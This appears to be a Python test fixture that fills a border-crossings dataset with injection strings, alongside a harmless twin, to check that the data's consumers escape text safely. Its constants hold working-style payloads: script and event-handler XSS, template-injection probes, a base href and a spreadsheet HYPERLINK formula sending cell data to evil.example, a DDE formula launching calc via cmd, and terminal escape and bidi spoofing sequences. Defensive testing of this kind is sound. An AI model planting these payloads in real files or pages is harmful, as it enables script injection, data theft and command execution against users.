"""Datasets whose every text tries to become something else, and their harmless twins.

A twin has a plain word wherever the other has a hostile text, and is the same in everything else:
whatever the two differ in beyond their texts, a text has become.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from tests.world import csv_text, topology, write_files

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = (
    "${window.pwned=1} {{7*7}} {% x %} `${7*7}` </script><script>window.pwned=1</script> <!-- --> "
    '<img src="x" onerror="window.pwned=1" data-evil> ]]> &#34; &lt;b&gt; " \' \\u003cb\\u003e '
    "javascript:window.pwned=1 \u202egpj.exe\u2066 \u2028 </textarea></title></style></svg>"
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><base href="//evil.example/">'
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open") <b onmouseover=alert(1)>'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0 <svg/onload=alert(2)>"
TERMINAL = (
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07 \x9b2J \b\b \x7f \u2067"
)
PAYLOADS = (HOSTILE, FORMULA, COMMAND, TERMINAL)
PLAIN = ("some words",) * len(PAYLOADS)
MARKS = ("data-evil", "onerror", "onload", "onmouseover", "evil.example", "pwned")

# Columns that take any text; the others take words, numbers, days and addresses alone.
TEXTS = {
    "crossings.csv": ("name", "coordinate_source", "unlocode", "wikidata", "note"),
    "changes.csv": ("summary", "applies_to"),
    "sources.csv": ("title", "publisher", "language"),
    "borders.csv": ("note",),
    "context.csv": ("title", "summary"),
}
ADDRESS = "https://example.org/?a=1&b=2;c=%3Cb%3E/(x)*!$~[]@:"


def write_hostile(folder: Path, payloads: tuple[str, ...] = PAYLOADS) -> Path:
    """Write a dataset with one of the texts in every column of a row that takes any."""

    def texts(file: str, payload: str) -> dict[str, str]:
        return dict.fromkeys(TEXTS[file], payload)

    def listed(payload: str) -> str:
        return payload.replace(";", ",")

    first = payloads[0]
    crossings = [
        texts("crossings.csv", payload)
        | {
            "id": f"aa-bb-{number}",
            "border": "AA-BB",
            "kind": ("road", "rail", "pedestrian", "river")[number % 4],
            "lat": f"{51.9 - number / 4}",
            "lon": "11",
            "modes": "car;truck",
            "category": "international",
            "baseline": "open",
            "baseline_source": "s0",
            "name_local": f"xx:there {listed(payload)}",
            "facilities": f"queue={listed(payload)}",
        }
        for number, payload in enumerate(payloads)
    ]
    changes = [
        texts("changes.csv", payload)
        | {
            "crossing": f"aa-bb-{number}",
            "date": f"2021-03-0{number + 1}",
            "status": ("closed", "restricted")[number % 2],
            "modes": "all",
            "direction": "both",
            "reason": f"policy: {payload}",
            "decided_by": listed(payload),
            "sources": f"s{number};s0" if number else "s0",
            "confidence": "high",
        }
        for number, payload in enumerate(payloads)
    ]
    sources = [
        texts("sources.csv", payload)
        | {"id": f"s{number}", "url": ADDRESS + str(number), "archive_url": f"{ADDRESS}a{number}"}
        for number, payload in enumerate(payloads)
    ]
    context = [
        texts("context.csv", payload)
        | {
            "date": f"2021-02-0{number + 1}",
            "kind": "advisory",
            "countries": "AA;BB",
            "sources": f"s{number}",
        }
        for number, payload in enumerate(payloads)
    ]
    borders = [
        texts("borders.csv", first) | {"border": "AA-BB", "checked": "2022-01-01", "source": "s0"}
    ]
    words = "".join(
        f"[words.{lang}]\ntitle = {json.dumps(first)}\nsummary = {json.dumps(first)}\n"
        for lang in ("lt", "be")
    )
    files = {
        "boundaries/boundaries.topojson": json.dumps(boundaries(first)),
        "datapackage.json": json.dumps(
            {
                "name": first,
                "title": first,
                "description": first,
                "date": "2024-01-01",
                "contributors": [{"title": first, "path": first}],
                "licenses": [{"name": first, "title": first, "path": "https://example.org/terms"}],
                "keywords": [first],
                first: first,
            }
        ),
        "maps/all.toml": f"title = {json.dumps(first)}\nsummary = {json.dumps(first)}\n"
        f"start = '2021-01-01'\n{words}",
        "sources.csv": csv_text(sources),
        "borders.csv": csv_text(borders),
        "context.csv": csv_text(context),
        "crossings.csv": csv_text(crossings),
        "changes.csv": csv_text(changes),
    }
    return write_files(folder, files)


def boundaries(text: str) -> dict[str, Any]:
    """The small world with a text in every attribute that takes any, and an area at issue."""
    world = topology()
    objects = world["objects"]
    for shape in objects["countries"]["geometries"]:
        shape["properties"]["name"] = text
    objects["disputed"] = {
        "type": "GeometryCollection",
        "geometries": [
            {
                "type": "Polygon",
                "properties": {"area": text, "name": text, "claimants": [text, "BB"], "own": text},
                "arcs": objects["countries"]["geometries"][2]["arcs"],
            }
        ],
    }
    return world | {"attribution": text, "license": text, "source": text}
